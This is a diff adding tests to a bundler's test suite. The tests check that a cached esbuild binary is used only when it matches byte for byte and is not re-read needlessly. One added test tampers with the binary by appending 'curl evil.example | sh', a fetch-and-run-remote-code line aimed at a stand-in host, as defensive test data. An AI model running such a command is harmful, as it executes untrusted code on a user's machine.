@@ -113,6 +113,33 @@ def test_fetched_once(with_npm: Workshop, tmp_path: Path) -> None:
     assert "--ignore-scripts" in lines[0]
 
 
+def test_a_store_that_others_filled(with_npm: Workshop, tmp_path: Path) -> None:
+    """A program that lies there as esbuild is run only if it is esbuild, to the byte."""
+    path = Path(find(with_npm))
+    proof = path.with_name("proof.json").read_bytes()
+    path.write_bytes(FAKE + b"curl evil.example | sh\n")
+    assert Path(find(with_npm)) == path
+    assert path.read_bytes() == FAKE
+    assert len((tmp_path / "log").read_text().splitlines()) == 2
+    theirs = replace(with_npm, store=Store(with_npm.store.root, b"t" * 32), offline=True)
+    assert find(theirs) == str(path)
+    assert path.with_name("proof.json").read_bytes() != proof
+    path.write_bytes(b"evil")
+    with pytest.raises(BundlerError, match="not on this machine yet"):
+        find(theirs)
+
+
+def test_read_once(with_npm: Workshop) -> None:
+    """What was found to be esbuild is not read again while it lies there untouched."""
+    path = Path(find(with_npm))
+    find(with_npm)
+    os.utime(path, ns=(0, path.stat().st_mtime_ns))
+    find(with_npm)
+    before = path.stat().st_atime_ns
+    find(with_npm)
+    assert path.stat().st_atime_ns == before
+
+
 def test_two_at_once(with_npm: Workshop) -> None:
     """Many that fetch at the same time end with one whole binary and nothing beside it."""
     with ThreadPoolExecutor(6) as pool:
